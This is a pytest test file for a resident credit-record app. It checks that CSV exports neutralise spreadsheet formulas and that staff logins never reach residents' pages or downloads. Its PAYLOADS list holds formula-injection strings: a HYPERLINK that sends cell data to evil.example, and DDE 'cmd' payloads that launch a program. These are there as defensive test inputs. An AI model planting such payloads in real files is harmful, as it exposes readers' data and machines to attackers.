"""What residents download and read: no spreadsheet formulas in the CSV export, and no
staff login anywhere, only the role and the office."""
import csv
import io
import json
import re
import zipfile
from datetime import datetime, timezone

import pytest

from credit_self import clock
from credit_self.admin.staff import create_staff_account
from credit_self.corrections import data as corrections
from credit_self.csv_export import FORMULA_STARTS
from credit_self.pilots import data as pilots
from credit_self.seeding import ADMIN_ACCOUNTS
from tests.conftest import AuthActions, persona, staff_login

MIXUP = persona("mixup")["id_number"]
NOW = datetime(2026, 3, 10, 2, 0, tzinfo=timezone.utc)
# One attack per character a spreadsheet reads as the start of a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def _mixup_case(db) -> dict:
    return db.query("SELECT * FROM corrections WHERE id_number = ?", [MIXUP])[0]


def _csv_files(response) -> dict[str, list[dict]]:
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    return {name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))
            for name in archive.namelist() if name.endswith(".csv")}


def _department_feed(app, tmp_path, attack: str) -> None:
    """A department's list feed for the resident whose facts and agency carry the attack."""
    feed = io.StringIO()
    writer = csv.writer(feed)
    writer.writerow(["id_number", "name", "facts", "document_no", "listed_on", "expires_on",
                     "source_agency"])
    writer.writerow([MIXUP, persona("mixup")["name"], f"{attack} department facts", "SEC-CSV-1",
                     "2025-03-01", "", f"{attack} agency"])
    path = tmp_path / "feed.csv"
    path.write_text(feed.getvalue(), encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["import-list", str(path), "--list",
                                                "judgment_defaulter"])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("char", list(PAYLOADS), ids=[repr(c) for c in PAYLOADS])
def test_facts_reviewer_notes_and_agency_answers_reach_the_csv_as_text(
        app, client, auth, db, tmp_path, char):
    attack = PAYLOADS[char]
    facts, note, answer = f"{attack} facts", f"{attack} note", f"{attack} answer"
    _department_feed(app, tmp_path, attack)
    case = _mixup_case(db)
    actor = "reviewer:demo-reviewer"
    corrections.forward(db, case["id"], f"{attack} forwarding note", NOW, NOW.date(), actor)
    corrections.record_agency_answer(db, case["id"], answer, NOW, actor)
    corrections.decide(db, case["id"], "uphold", note, "correct_facts", facts, None, NOW, actor)
    # A pilot's deductions are numbers and stay numbers.
    db.execute("INSERT INTO score_events (pilot_code, id_number, event_type, delta, reason, occurred_on) "
               "VALUES ('rongcheng', ?, 'traffic_ticket', -100, '-5', '2025-01-01')", [MIXUP])
    auth.login("mixup")
    files = _csv_files(client.get("/me/export/csv"))

    # The files speak the reader's language (English here): headers are labels.
    [entry] = [e for e in files["entries.csv"] if e["Entry number"] == str(case["entry_id"])]
    assert entry["What was recorded"] == "'" + facts
    # The feed's values are stripped as they are read: a leading tab or CR goes there.
    listed = attack.strip()
    [imported] = [e for e in files["entries.csv"] if e["Document number"] == "SEC-CSV-1"]
    assert imported["What was recorded"] == f"'{listed} department facts"
    assert imported["Recorded by"] == f"'{listed} agency"
    [exported] = files["corrections.csv"]
    assert exported["Reasons given"] == "'" + note and exported["The agency's answer"] == "'" + answer
    notes = {event["What happened"]: event["Note"] for event in files["correction_timeline.csv"]}
    assert notes["Upheld"] == "'" + note and notes["The source agency answered"] == "'" + answer
    assert notes["Forwarded to the source agency"] == f"'{attack} forwarding note"
    assert ["'" + facts] == [h["After"] for h in files["entry_changes.csv"]
                             if h["After"] and attack in h["After"]][:1]
    [event] = [e for e in files["pilot_score_events.csv"] if e["Rule"] == "Traffic ticket"]
    assert (event["Points"], event["Reason"]) == ("-100", "-5")
    for name, rows in files.items():
        for row in rows:
            for value in row.values():
                assert not value.startswith(FORMULA_STARTS) or NEGATIVE_NUMBER.fullmatch(value), (
                    name, value)


# ---------------------------------------------------------------- staff logins

FRESH_REVIEWER = "sec-rev2"
LOGINS = [admin["login"] for admin in ADMIN_ACCOUNTS] + [FRESH_REVIEWER]


def _no_login_in(text: str, where: str) -> None:
    for login in LOGINS:
        assert login not in text, (login, where)


def test_no_staff_login_reaches_a_residents_pages_or_downloads_after_staff_actions(app, db):
    create_staff_account(db, FRESH_REVIEWER, "a-long-password-1", "reviewer", "", None,
                         "system:test", clock.iso_now())
    case = _mixup_case(db)
    reviewer = app.test_client()
    staff_login(reviewer, "reviewer")
    reviewer.get(f"/admin/corrections/{case['id']}")
    reviewer.post(f"/admin/corrections/{case['id']}/start")
    reviewer.post(f"/admin/corrections/{case['id']}/forward", data={"agency_note": "Please check"})
    # The freshly created reviewer (no office given) finishes the case.
    fresh = f"reviewer:{FRESH_REVIEWER}"
    corrections.record_agency_answer(db, case["id"], "The court confirms the mix-up.", NOW, fresh)
    corrections.decide(db, case["id"], "uphold", "Not this resident.", "withdraw", None, None,
                       NOW, fresh)
    member = persona("pilot_member")["id_number"]
    pilot = pilots.get_pilot(db, "rongcheng")
    pilots.record_event(db, pilot, member, "volunteer_service", NOW.date(), "Volunteered",
                        "Rongcheng Volunteer Federation", "pilot_admin:demo-pilot-admin",
                        NOW.isoformat())
    superadmin = app.test_client()
    staff_login(superadmin, "superadmin")
    superadmin.get(f"/admin/audit?subject={MIXUP}")

    resident = app.test_client()
    AuthActions(resident).login("mixup")
    pages = ["/me", f"/me/entries/{case['entry_id']}", "/corrections", f"/corrections/{case['id']}",
             "/inbox", "/me/access", "/me/export", "/me/record/print", "/pilots", "/certificates"]
    for path in pages:
        response = resident.get(path)
        assert response.status_code == 200, path
        _no_login_in(response.get_data(as_text=True), path)
    json_export = resident.get("/me/export/json").get_data(as_text=True)
    _no_login_in(json_export, "json export")
    archive = zipfile.ZipFile(io.BytesIO(resident.get("/me/export/csv").data))
    for name in archive.namelist():
        _no_login_in(archive.read(name).decode("utf-8-sig"), name)
    # SQLite keeps text as UTF-8: a login anywhere in the file would be found in its bytes.
    _no_login_in(resident.get("/me/export.db").data.decode("utf-8", "replace"), "sqlite export")
    # What the export says instead: the role, and the office where one was given.
    tables = json.loads(json_export)["tables"]
    [decided] = tables["corrections"]
    assert (decided["decided_by"], decided["decided_by_office"]) == ("reviewer", None)
    by_event = {e["event"]: (e["actor"], e.get("actor_office")) for e in tables["correction_events"]}
    assert by_event["forwarded"] == ("reviewer", "Corrections reviewer")
    assert by_event["upheld"] == ("reviewer", None)
    assert by_event["submitted"] == (f"resident:{MIXUP}", None)
    [withdrawn] = [h for h in tables["entry_history"] if h["field"] == "status"]
    assert withdrawn["actor"] == "reviewer"
    access = {(row["role"], row["office"]) for row in tables["access_log"]}
    assert ("reviewer", "Corrections reviewer") in access and ("reviewer", None) in access

    member_client = app.test_client()
    AuthActions(member_client).login("pilot_member")
    for path in ["/pilots", "/me/access", "/me/export/json"]:
        _no_login_in(member_client.get(path).get_data(as_text=True), path)
